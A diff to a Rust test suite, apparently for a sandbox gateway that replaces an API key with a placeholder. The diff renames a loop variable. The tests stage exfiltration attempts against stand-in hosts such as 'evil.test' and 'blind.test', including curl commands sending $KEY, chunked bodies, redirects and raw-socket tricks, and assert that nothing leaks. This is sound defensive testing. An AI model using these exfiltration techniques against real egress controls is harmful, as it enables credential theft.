@@ -71,9 +71,9 @@ fn holds(request: &Request, text: &str) -> bool {
 
 #[test]
 fn a_placeholder_elsewhere_is_refused_and_recorded() {
-    for wall in walls() {
+    for backend in backends() {
         let hosts = hosts();
-        let cage = cage_with_key(*wall, &hosts.policy(), credential("good.test", hosts.good.port()));
+        let cage = cage_with_key(*backend, &hosts.policy(), credential("good.test", hosts.good.port()));
         let [good, beside, evil, plain] = hosts.ports();
         cage.attack(
             &format!(
@@ -122,27 +122,27 @@ ask('good.test', good, 'POST', headers=[key], body=b'{{"note": "' + KEY.encode()
             ("its place", &hosts.good),
         ] {
             let none: [&str; 0] = [];
-            assert_eq!(arrived(server), none, "{wall}: {what}");
+            assert_eq!(arrived(server), none, "{backend}: {what}");
         }
-        assert!(!cage.refused_for(Reason::PlaceholderElsewhere).is_empty(), "{wall}");
+        assert!(!cage.refused_for(Reason::PlaceholderElsewhere).is_empty(), "{backend}");
         let lines = cage.lines();
         let incidents =
             lines.iter().filter(|line| line.contains(r#""kind":"placeholder_elsewhere""#)).count();
-        assert!(incidents >= 8, "{wall}: {incidents}");
-        assert!(!lines.concat().contains(REAL), "{wall}");
+        assert!(incidents >= 8, "{backend}: {incidents}");
+        assert!(!lines.concat().contains(REAL), "{backend}");
         // And where it belongs it goes.
         cage.attack(&format!("{ASK}\nask('good.test', sys.argv[1], headers=[('x-api-key', KEY)])"), &[&good]);
         let requests = hosts.good.requests();
-        assert_eq!(requests.len(), 1, "{wall}");
-        assert_eq!(requests[0].header("x-api-key"), Some(REAL), "{wall}");
+        assert_eq!(requests.len(), 1, "{backend}");
+        assert_eq!(requests[0].header("x-api-key"), Some(REAL), "{backend}");
     }
 }
 
 #[test]
 fn a_placeholder_split_over_pieces_of_a_body_does_not_arrive() {
-    for wall in gateway_walls() {
+    for backend in gateway_backends() {
         let hosts = hosts();
-        let cage = cage_with_key(*wall, &hosts.policy(), credential("good.test", hosts.good.port()));
+        let cage = cage_with_key(*backend, &hosts.policy(), credential("good.test", hosts.good.port()));
         let [good, _, evil, plain] = hosts.ports();
         cage.attack(
             &format!(
@@ -166,16 +166,16 @@ raw('evil.test', evil, [start + b''.join(chunk(bytes([byte])) for byte in KEY.en
             &[&good, &evil, &plain],
         );
         for server in [&hosts.evil, &hosts.plain, &hosts.good] {
-            assert_eq!(server.requests().len(), 0, "{wall}");
+            assert_eq!(server.requests().len(), 0, "{backend}");
         }
     }
 }
 
 #[test]
 fn a_redirect_takes_nothing_along() {
-    for wall in gateway_walls() {
+    for backend in gateway_backends() {
         let hosts = hosts();
-        let cage = cage_with_key(*wall, &hosts.policy(), credential("good.test", hosts.good.port()));
+        let cage = cage_with_key(*backend, &hosts.policy(), credential("good.test", hosts.good.port()));
         let [good, ..] = hosts.ports();
         // A client that is told to send its key to whoever it is sent to.
         cage.jail.sh(&format!(
@@ -187,11 +187,11 @@ fn a_redirect_takes_nothing_along() {
         assert_eq!(
             sent.iter().map(|request| holds(request, REAL)).collect::<Vec<_>>(),
             [true, true, false],
-            "{wall}"
+            "{backend}"
         );
         let got = hosts.evil.requests();
-        assert_eq!(got.len(), 1, "{wall}: only the one that had nothing to tell");
-        assert!(!holds(&got[0], REAL) && !holds(&got[0], &cage.placeholder()), "{wall}");
+        assert_eq!(got.len(), 1, "{backend}: only the one that had nothing to tell");
+        assert!(!holds(&got[0], REAL) && !holds(&got[0], &cage.placeholder()), "{backend}");
     }
 }
 
@@ -216,7 +216,7 @@ fn a_redirect_to_the_place_brings_no_secret_along() {
 
 #[test]
 fn where_nobody_looks_only_a_placeholder_arrives() {
-    for wall in gateway_walls() {
+    for backend in gateway_backends() {
         let hosts = hosts();
         let blind = HttpServer::start_tls(at("127.66.9.1"), &hosts.authority.leaf(["blind.test"]), |_| {
             Response::ok("got it")
@@ -225,38 +225,38 @@ fn where_nobody_looks_only_a_placeholder_arrives() {
             [format!("=good.test:{}/tls", hosts.good.port()), format!("=blind.test:{}/tls", blind.port())];
         let mut policy = policy(&hosts.dns, &rules.each_ref().map(String::as_str));
         policy.authorities = hosts.authority.pem().into_bytes();
-        let cage = cage_with_key(*wall, &policy, credential("good.test", hosts.good.port()));
+        let cage = cage_with_key(*backend, &policy, credential("good.test", hosts.good.port()));
         std::fs::write(cage.jail.workspace.path().join("ca.pem"), hosts.authority.pem()).unwrap();
         let port = blind.port();
         cage.jail
             .sh(&format!("curl -sS --cacert ca.pem -H \"x-api-key: $KEY\" https://blind.test:{port}/v1/x"));
         let got = blind.requests();
-        assert_eq!(got.len(), 1, "{wall}");
-        assert_eq!(got[0].header("x-api-key"), Some(cage.placeholder().as_str()), "{wall}");
-        assert!(!holds(&got[0], REAL), "{wall}");
+        assert_eq!(got.len(), 1, "{backend}");
+        assert_eq!(got[0].header("x-api-key"), Some(cage.placeholder().as_str()), "{backend}");
+        assert!(!holds(&got[0], REAL), "{backend}");
 
         // Who has everything looked into has it stopped there too, and what has no placeholder in it passes.
         policy.inspect = true;
-        let cage = cage_with_key(*wall, &policy, credential("good.test", hosts.good.port()));
+        let cage = cage_with_key(*backend, &policy, credential("good.test", hosts.good.port()));
         let url = format!("https://blind.test:{port}/v1/x");
         cage.jail.sh(&format!("curl -sS -H \"x-api-key: $KEY\" {url}; curl -sS -d \"a $KEY b\" {url}"));
-        assert_eq!(blind.requests().len(), 1, "{wall}: nothing more has arrived");
-        assert!(!cage.refused_for(Reason::PlaceholderElsewhere).is_empty(), "{wall}");
+        assert_eq!(blind.requests().len(), 1, "{backend}: nothing more has arrived");
+        assert!(!cage.refused_for(Reason::PlaceholderElsewhere).is_empty(), "{backend}");
         cage.jail.sh(&format!("curl -sS {url}"));
-        assert_eq!(blind.requests().len(), 2, "{wall}");
+        assert_eq!(blind.requests().len(), 2, "{backend}");
         let own = format!("https://good.test:{}/v1/x", hosts.good.port());
         cage.jail.sh(&format!("curl -sS -H \"x-api-key: $KEY\" {own}"));
         assert_eq!(
             hosts.good.requests()[0].header("x-api-key"),
             Some(REAL),
-            "{wall}: and its own place gets it"
+            "{backend}: and its own place gets it"
         );
 
         // Nor does it help to begin late, or as something else, where every name is open.
         policy.mode = Mode::Open;
         policy.allow.clear();
         let capture = Capture::start(at("127.66.9.1"));
-        let cage = cage_with_key(*wall, &policy, credential("good.test", hosts.good.port()));
+        let cage = cage_with_key(*backend, &policy, credential("good.test", hosts.good.port()));
         cage.attack(
             &format!(
                 r#"{ASK}
@@ -286,15 +286,15 @@ for first in (b'', b'\0', b'SSH-2.0-x\r\n', b'\0\0\0\x08\x04\xd2\x16\x2f'):
             ),
             &[&port.to_string(), &capture.port().to_string()],
         );
-        assert_eq!(blind.requests().len(), 2, "{wall}: nothing more has arrived");
+        assert_eq!(blind.requests().len(), 2, "{backend}: nothing more has arrived");
         let heard = String::from_utf8_lossy(&capture.connections().concat()).into_owned();
-        assert!(!heard.contains(&cage.placeholder()), "{wall}: {heard}");
+        assert!(!heard.contains(&cage.placeholder()), "{backend}: {heard}");
     }
 }
 
 #[test]
 fn a_server_that_only_says_it_is_the_place_gets_nothing() {
-    for wall in gateway_walls() {
+    for backend in gateway_backends() {
         let hosts = hosts();
         // Another authority than the one that is trusted, and a server that does not speak TLS at all.
         let stranger = Authority::new();
@@ -305,12 +305,12 @@ fn a_server_that_only_says_it_is_the_place_gets_nothing() {
         for port in [fake.port(), mute.port()] {
             let mut policy = policy(&hosts.dns, &[&format!("=good.test:{port}/tls")]);
             policy.authorities = hosts.authority.pem().into_bytes();
-            let cage = cage_with_key(*wall, &policy, credential("good.test", port));
+            let cage = cage_with_key(*backend, &policy, credential("good.test", port));
             let script = format!("{ASK}\nask('good.test', sys.argv[1], headers=[('x-api-key', KEY)])");
             cage.attack(&script, &[&port.to_string()]);
         }
-        assert_eq!(fake.requests().len(), 0, "{wall}");
+        assert_eq!(fake.requests().len(), 0, "{backend}");
         let heard = String::from_utf8_lossy(&mute.connections().concat()).into_owned();
-        assert!(!heard.contains(REAL), "{wall}");
+        assert!(!heard.contains(REAL), "{backend}");
     }
 }
